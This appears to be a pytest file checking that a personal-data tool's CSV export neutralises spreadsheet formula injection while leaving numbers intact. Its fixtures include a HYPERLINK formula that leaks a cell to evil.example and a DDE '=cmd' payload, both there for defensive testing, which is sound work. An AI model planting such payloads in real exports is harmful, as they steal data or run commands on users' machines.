"""``datavault export TABLE --format csv`` is opened in spreadsheet programs: a cell that starts like a formula
(=, +, -, @, tab, CR: OWASP's CSV-injection list) gets a leading apostrophe and every text cell is quoted, while
numbers (a negative longitude, a refund) stay numbers; ``--raw`` writes the cells verbatim; ``--bom`` starts the
file with a UTF-8 byte order mark so accents open right."""

from __future__ import annotations

import csv
import io

import pytest
from typer.testing import CliRunner

from datavault.cli import app
from datavault.exporting import export_table, spreadsheet_cell
from datavault.records import Location, Message, Person, Purchase
from tests.vaultkit import make_vault

runner = CliRunner()
CHAT = "WhatsApp Chat with Zoë.txt"
TEXTS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1 555 0100", "-5 degrees today", "@channel lunch",
         "\tindented", "\rcarriage", "Zoë says hi, ça va?", "-", "2024 plans", "'already quoted"]


def _vault(tmp_path):
    records = [Message(time=f"2024-01-10T10:{i:02d}:00", platform="whatsapp", conversation="Zoë",
                       sender="=cmd|' /C calc'!A0" if i == 0 else "Zoë", text=text, from_owner=False,
                       source_file=CHAT, locator=f"line {i + 1}", key=(CHAT, i)) for i, text in enumerate(TEXTS)]
    records += [
        Location(time="2024-01-10T23:00:00Z", lat=-33.86882, lon=-151.20929, accuracy_m=-1, place_name="-Sydney",
                 source_file="Records.json", locator="locations[0]", key=(0,)),
        Purchase(time="2024-01-20T12:00:00Z", platform="google", item="Refund: nappies", merchant="@Boots",
                 amount=-9.5, currency="GBP", source_file="transactions.csv", locator="line 2", key=(1,)),
        Person(name="Ana", platform="google", relation="contact", phones=["+44 7700 900201", "0113 496 0000"],
               source_file="contacts.vcf", key=("Ana",)),
    ]
    return make_vault(tmp_path / "v.sqlite", records)


def _csv(vault, table, *options):
    result = runner.invoke(app, ["--vault", str(vault), "export", table, "--format", "csv", *options])
    assert result.exit_code == 0, result.output
    return result.stdout_bytes


def test_spreadsheet_cell():
    assert spreadsheet_cell("=1+2", "text") == "'=1+2"
    assert spreadsheet_cell("+1 555", "text") == "'+1 555"
    assert spreadsheet_cell("-x", "text") == "'-x"
    assert spreadsheet_cell("@SUM(A1)", "text") == "'@SUM(A1)"
    assert spreadsheet_cell("\t=1", "text") == "'\t=1"
    assert spreadsheet_cell("\r=1", "text") == "'\r=1"
    assert spreadsheet_cell("plain", "text") == "plain"
    assert spreadsheet_cell("", "text") == ""
    assert spreadsheet_cell(None, "text") is None
    assert spreadsheet_cell(-1.5, "lat") == -1.5
    assert spreadsheet_cell(-3, "accuracy_m") == -3
    assert spreadsheet_cell("-9.50", "amount") == "-9.50"  # a number in a numeric column, even as text
    assert spreadsheet_cell("-9.50", "text") == "'-9.50"
    assert spreadsheet_cell("-=1", "amount") == "'-=1"


def test_csv_export_neutralises_formulas_and_keeps_numbers(tmp_path):
    vault = _vault(tmp_path)
    data = _csv(vault, "messages")
    assert not data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    assert [r["text"] for r in rows] == [
        "'" + TEXTS[0], "'+1 555 0100", "'-5 degrees today", "'@channel lunch", "'\tindented", "'\rcarriage",
        "Zoë says hi, ça va?", "'-", "2024 plans", "'already quoted"]
    assert rows[0]["sender"] == "'=cmd|' /C calc'!A0"
    assert rows[0]["conversation"] == "Zoë"
    # every text cell is quoted, so a separator inside one (`;` in locales that split on it) starts no new cell
    assert data.decode("utf-8").splitlines()[0] == ('"time","platform","conversation","sender","from_owner","text",'
                                                   '"kind","edited","source_file","locator"')
    locations = _csv(vault, "locations").decode("utf-8")
    row = next(csv.DictReader(io.StringIO(locations)))
    assert (row["lat"], row["lon"], row["accuracy_m"], row["place_name"]) == ("-33.86882", "-151.20929", "-1.0",
                                                                             "'-Sydney")
    assert ",-33.86882,-151.20929,-1.0," in locations  # unquoted: a spreadsheet reads them as numbers
    purchase = next(csv.DictReader(io.StringIO(_csv(vault, "purchases").decode("utf-8"))))
    assert (purchase["amount"], purchase["merchant"]) == ("-9.5", "'@Boots")
    person = next(csv.DictReader(io.StringIO(_csv(vault, "people").decode("utf-8"))))
    assert person["phones"] == "'+44 7700 900201;0113 496 0000"


def test_csv_raw_keeps_cells_verbatim(tmp_path):
    vault = _vault(tmp_path)
    rows = list(csv.DictReader(io.StringIO(_csv(vault, "messages", "--raw").decode("utf-8"))))
    assert [r["text"] for r in rows] == TEXTS
    assert rows[0]["sender"] == "=cmd|' /C calc'!A0"
    buffer = io.StringIO()
    export_table(vault, "messages", "csv", buffer, raw=True)
    assert [r["text"] for r in csv.DictReader(io.StringIO(buffer.getvalue()))] == TEXTS


def test_csv_bom(tmp_path):
    vault = _vault(tmp_path)
    data = _csv(vault, "messages", "--bom")
    assert data.startswith(b"\xef\xbb\xbf\"time\",")
    assert data.count(b"\xef\xbb\xbf") == 1
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[6]["text"] == "Zoë says hi, ça va?"
    assert _csv(vault, "messages", "--bom", "--raw").startswith(b"\xef\xbb\xbf\"time\",\"platform\",")


@pytest.mark.parametrize("option", ["--bom", "--raw"])
def test_csv_only_options_with_jsonl_are_usage_errors(tmp_path, option):
    vault = _vault(tmp_path)
    result = runner.invoke(app, ["--vault", str(vault), "export", "messages", option])
    assert result.exit_code == 2
    assert "--format csv" in result.stderr
    assert "Traceback" not in result.output


def test_jsonl_export_is_unchanged(tmp_path):
    vault = _vault(tmp_path)
    result = runner.invoke(app, ["--vault", str(vault), "export", "messages"])
    first = result.stdout.split("\n")[0]
    assert first == ('{"time": "2024-01-10T10:00:00", "platform": "whatsapp", "conversation": "Zoë", '
                     '"sender": "=cmd|\' /C calc\'!A0", "from_owner": false, "text": "=HYPERLINK(\\"http://evil.'
                     'example/?\\"&A1,\\"click\\")", "kind": "text", "edited": false, "source_file": '
                     '"WhatsApp Chat with Zoë.txt", "locator": "line 1"}')
